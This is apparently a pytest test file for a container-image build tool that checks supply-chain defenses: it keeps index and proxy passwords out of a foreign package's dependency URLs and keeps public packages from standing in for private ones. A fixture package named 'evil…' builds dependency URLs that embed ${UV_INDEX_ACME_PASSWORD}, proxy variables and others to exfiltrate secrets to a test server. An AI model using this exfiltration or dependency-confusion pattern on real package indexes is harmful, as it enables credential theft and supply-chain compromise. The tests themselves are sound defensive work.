"""Foreign packages learn no password of an index, and no public package stands in for a private one."""

from __future__ import annotations

import base64
import tarfile
from collections.abc import Iterator

import pytest

from launcher.errors import BuildError
from tests.containers.images.conftest import Workshop
from tests.containers.images.server import Server, serving, wheel

VARIABLES = (
    "UV_INDEX",
    "UV_DEFAULT_INDEX",
    "UV_INDEX_URL",
    "UV_EXTRA_INDEX_URL",
    "UV_INDEX_ACME_PASSWORD",
    "PIP_INDEX_URL",
    "PIP_EXTRA_INDEX_URL",
    "HTTP_PROXY",
    "FTP_PROXY",
    "ftp_proxy",
)
SETUP = """
from setuptools import setup
setup(name={name!r}, version="1.0", py_modules=[], install_requires={requires!r})
"""


@pytest.fixture
def server(workshop: Workshop) -> Iterator[Server]:
    with serving(workshop.client) as made:
        yield made


def test_what_a_wheel_asks_for_is_filled_in_with_no_setting_of_this_host(
    workshop: Workshop, server: Server
) -> None:
    evil = f"evil{workshop.mark}"
    folder = workshop.root / "packages" / evil
    folder.mkdir(parents=True)
    requires = []
    for number, name in enumerate(VARIABLES):
        leak = f"leak{number}{workshop.mark}"
        server.foreign[f"{leak}-1.0-py3-none-any.whl"] = wheel(leak)
        address = f"http://{server.address}/taken/{leak}-1.0-py3-none-any.whl?${{{name}}}"
        requires.append(f"{leak} @ {address}")
    (folder / "setup.py").write_text(SETUP.format(name=evil, requires=requires))
    server.private[f"{workshop.mark}-1.0-py3-none-any.whl"] = wheel(workshop.mark)
    environ = {
        **workshop.environ,
        # The index is found by the proxy alone: uv goes on by the settings that it still has.
        "UV_INDEX": "acme=http://index.invalid/private/simple",
        "UV_INDEX_ACME_USERNAME": "reader",
        "UV_INDEX_ACME_PASSWORD": "hunter2-of-the-index",
        "UV_EXTRA_INDEX_URL": server.private_index,
        "HTTP_PROXY": f"http://someone:hunter2-of-the-proxy@{server.address}",
        "FTP_PROXY": "http://someone:hunter2-of-the-proxy@127.0.0.1:9",
    }
    source = workshop.source(requirements=(f"./packages/{evil}", workshop.mark))
    image = workshop.images(source, environ=environ).ensure(workshop.describe(source))
    assert workshop.mark in image.packages
    assert "http://index.invalid/private/simple/" in " ".join(server.asked)
    taken = [path for path in server.asked if "/taken/" in path]
    assert len({path.partition("-1.0")[0] for path in taken}) == len(VARIABLES)
    assert [path for path in taken if "hunter2" in path] == []


BACKEND = """
import base64, pathlib, zipfile
def get_requires_for_build_wheel(config_settings=None):
    return {more!r}
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    import {helper}
    made = pathlib.Path(wheel_directory, "{name}-1.0-py3-none-any.whl")
    made.write_bytes(base64.b64decode({made!r}))
    with zipfile.ZipFile(made, "a") as archive:
        archive.writestr("who_{name}.py", "WHO = " + repr({helper}.WHO))
    return made.name
"""


def package(workshop: Workshop, helper: str, more: tuple[str, ...] = ()) -> str:
    """A local package that a package of an index builds; it holds who that was."""
    folder = workshop.root / "packages" / workshop.mark
    folder.mkdir(parents=True)
    (folder / "pyproject.toml").write_text(
        f'[build-system]\nrequires = ["{helper}"]\nbuild-backend = "backend"\nbackend-path = ["."]\n'
    )
    made = base64.b64encode(wheel(workshop.mark)).decode()
    text = BACKEND.format(name=workshop.mark, helper=helper, more=list(more), made=made)
    (folder / "backend.py").write_text(text)
    return f"./packages/{workshop.mark}"


def has(server: Server, where: dict[str, bytes], name: str, who: str, version: str = "1.0") -> None:
    """Puts a package in an index that says whose it is."""
    where[f"{name}-{version}-py3-none-any.whl"] = wheel(name, version, **{name: f"WHO = {who!r}\n"})


def who_built(workshop: Workshop, image: str) -> str:
    return workshop.run(image, f"import who_{workshop.mark} as m; print(m.WHO)")


def test_what_a_build_asks_for_is_the_private_indexs_though_a_public_one_has_a_newer(
    workshop: Workshop, server: Server
) -> None:
    helper = f"helper{workshop.mark}"
    has(server, server.private, helper, "private")
    has(server, server.open, helper, "foreign", "9.0")
    environ = {**workshop.environ, "UV_INDEX": f"{server.private_index} {server.open_index}"}
    source = workshop.source(requirements=(package(workshop, helper),))
    image = workshop.images(source, environ=environ).ensure(workshop.describe(source))
    assert who_built(workshop, image.reference) == "private"
    assert [path for path in server.asked if path.startswith(f"/open/{helper}")] == []


def test_what_the_private_index_cannot_give_ends_the_build_and_a_public_one_is_not_asked(
    workshop: Workshop, server: Server
) -> None:
    helper = f"helper{workshop.mark}"
    server.private[f"{helper}-1.0.tar.gz"] = b""
    has(server, server.open, helper, "foreign")
    environ = {**workshop.environ, "UV_INDEX": f"{server.private_index} {server.open_index}"}
    source = workshop.source(requirements=(package(workshop, helper),))
    with pytest.raises(BuildError, match="is not all there as wheels") as error:
        workshop.images(source, environ=environ).ensure(workshop.describe(source))
    assert helper in error.value.message
    assert [path for path in server.asked if path.startswith("/open/")] == []


def test_what_a_build_asks_for_as_it_runs_is_taken_from_nowhere_else(
    workshop: Workshop, server: Server
) -> None:
    helper, other = f"helper{workshop.mark}", f"other{workshop.mark}"
    has(server, server.private, helper, "private")
    has(server, server.open, other, "foreign")
    environ = {**workshop.environ, "UV_INDEX": f"{server.private_index} {server.open_index}"}
    asked = package(workshop, helper, more=(f"{helper}>=1", other, f"{other} ; python_version < '3'"))
    source = workshop.source(requirements=(asked,))
    with pytest.raises(BuildError, match=f"as it is built, {workshop.mark} asks for") as error:
        workshop.images(source, environ=environ).ensure(workshop.describe(source))
    assert "[build-system] requires" in error.value.hint
    (workshop.root / asked / "pyproject.toml").write_text(
        (workshop.root / asked / "pyproject.toml")
        .read_text()
        .replace("requires = [", f"requires = ['{other}', ")
    )
    image = workshop.images(source, environ=environ).ensure(workshop.describe(source))
    assert who_built(workshop, image.reference) == "private"


def test_an_sdist_of_a_private_index_is_no_public_package_of_its_name(
    workshop: Workshop, server: Server
) -> None:
    server.private[f"{workshop.mark}-1.0.tar.gz"] = b""
    server.open[f"{workshop.mark}-1.0.tar.gz"] = b""
    environ = {**workshop.environ, "UV_INDEX": f"{server.private_index} {server.open_index}"}
    source = workshop.source(requirements=(workshop.mark,))
    with pytest.raises(BuildError, match=f"an index that asks for a password has {workshop.mark}"):
        workshop.images(source, environ=environ).ensure(workshop.describe(source))
    assert [path for path in server.asked if path.startswith(f"/open/{workshop.mark}")] == []
    (failed,) = workshop.locks(source, environ=environ).lock([source])
    assert f"{workshop.mark} has no wheel" in str(failed.error)


def test_a_version_with_a_wheel_is_taken_before_a_newer_sdist_which_is_built_where_it_is_asked_for(
    workshop: Workshop, server: Server
) -> None:
    server.open[f"{workshop.mark}-1.0-py3-none-any.whl"] = wheel(workshop.mark)
    folder = workshop.root / f"{workshop.mark}-2.0"
    folder.mkdir()
    (folder / "PKG-INFO").write_text(f"Metadata-Version: 2.1\nName: {workshop.mark}\nVersion: 2.0\n")
    (folder / "setup.py").write_text(SETUP.format(name=workshop.mark, requires=[]).replace("1.0", "2.0"))
    with tarfile.open(workshop.root / "sdist.tar.gz", "w:gz") as archive:
        archive.add(folder, folder.name)
    server.open[f"{workshop.mark}-2.0.tar.gz"] = (workshop.root / "sdist.tar.gz").read_bytes()
    environ = {**workshop.environ, "UV_INDEX": server.open_index}
    for asked, version in ((workshop.mark, "1.0"), (f"{workshop.mark}>=2", "2.0")):
        source = workshop.source(requirements=(asked,))
        image = workshop.images(source, environ=environ).ensure(workshop.describe(source))
        assert image.packages[workshop.mark] == version
